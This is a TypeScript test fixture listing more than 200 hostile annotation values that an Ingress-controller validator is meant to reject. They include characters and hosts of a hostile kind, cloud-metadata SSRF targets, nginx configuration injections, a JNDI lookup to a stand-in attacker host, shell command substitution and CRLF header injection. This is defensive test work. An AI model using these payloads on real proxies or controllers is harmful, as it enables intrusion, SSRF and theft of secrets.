/**
 * More than 200 hostile annotation values, all of which must be rejected: characters with a meaning in the configuration of a
 * proxy, a shell, a template or a URL, each at four places; and values known from attacks on Ingress controllers.
 */

const characters = [
  ..." \t\r\n\u0000\u0001\u001b\u007f\u0085\u00a0\u00ad\u0130\u200b\u2028\u202e\u2066\u3002\uff0e\uff45\ufeff\ud800",
  ...";{}()[]<>\"'`$&|\\^%#?@:=+,!*_",
  "\r\nX-Evil: 1",
  "😀",
];

/** Allowed in a path. */
const legalInPath = new Set(["_"]);

const hosts = [
  "Example.com",
  "EXAMPLE.COM",
  "TRUE",
  "True",
  "true ",
  " true",
  "false",
  "yes",
  "no",
  "on",
  "off",
  "1",
  ".",
  "..",
  "-",
  "example..com",
  ".example.com",
  "example.com.",
  "-a.example.com",
  "a-.example.com",
  "*",
  "*.example.com",
  "*.*",
  "//example.com",
  "http://example.com",
  "https://user:password@example.com/",
  "example.com:443",
  "127.0.0.1",
  "10.0.0.1/admin",
  "169.254.169.254/latest/meta-data",
  "2130706433",
  "0x7f000001",
  "0177.0.0.1",
  "0x7f.1",
  "example.0",
  "::1",
  "[::1]",
  "xn--",
  "例え.jp",
  `${"a".repeat(64)}.com`,
  `${"a.".repeat(126)}com`,
  "a".repeat(1_000_000),
];

const paths = [
  "//",
  "/a//b",
  "/./",
  "/a/.",
  "/..",
  "/a/../b",
  "/%2e%2e/",
  "/a%2fb",
  "/%00",
  `/${"a/".repeat(300)}`,
  "/(.*)$ permanent; } location /x { return 200; } #",
  '/"; proxy_pass http://169.254.169.254; #',
  "/;ssl_engine ../../../../proc/self/fd/7",
  "/${jndi:ldap://evil.example/a}",
  "/{{ .Values.secret }}",
  "/$(id)",
  "/a\nserver_name _;",
];

/** The values. */
export const hostileValues: readonly string[] = [
  ...characters.flatMap((character) => [
    `ex${character}ample.com`,
    `${character}example.com`,
    ...(legalInPath.has(character) ? [] : [`example.com/a${character}b`, `example.com/${character}`]),
  ]),
  ...hosts,
  ...paths.map((path) => `example.com${path}`),
];
